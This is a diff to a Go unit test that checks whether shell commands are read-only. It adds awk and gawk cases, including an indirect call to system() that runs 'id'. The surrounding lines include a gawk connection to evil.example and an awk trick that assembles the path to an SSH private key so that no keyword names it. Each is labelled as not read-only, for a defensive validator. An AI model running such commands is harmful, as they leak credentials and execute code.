@@ -52,6 +52,8 @@ func TestReadsOnly(t *testing.T) {
 		{"awk printing fields", `ps aux | awk '{print $2}'`, false},
 		{"gawk connecting", `gawk '{print}' /inet/tcp/0/evil.example/80`, false},
 		{"awk reading a file no word names", `awk 'BEGIN{ARGV[1]=".ss" "h/id_ed25519"}{print}' README.md`, false},
+		{"awk's program on its standard input", `awk -f - data.txt`, false},
+		{"gawk's indirect call", `gawk 'BEGIN{f="system"; @f("id")}'`, false},
 		{"sed writing after a pattern", "sed -n '/x/w out' f", false},
 		{"sed substituting", "sed -n 's/a/b/p' f", false},
 
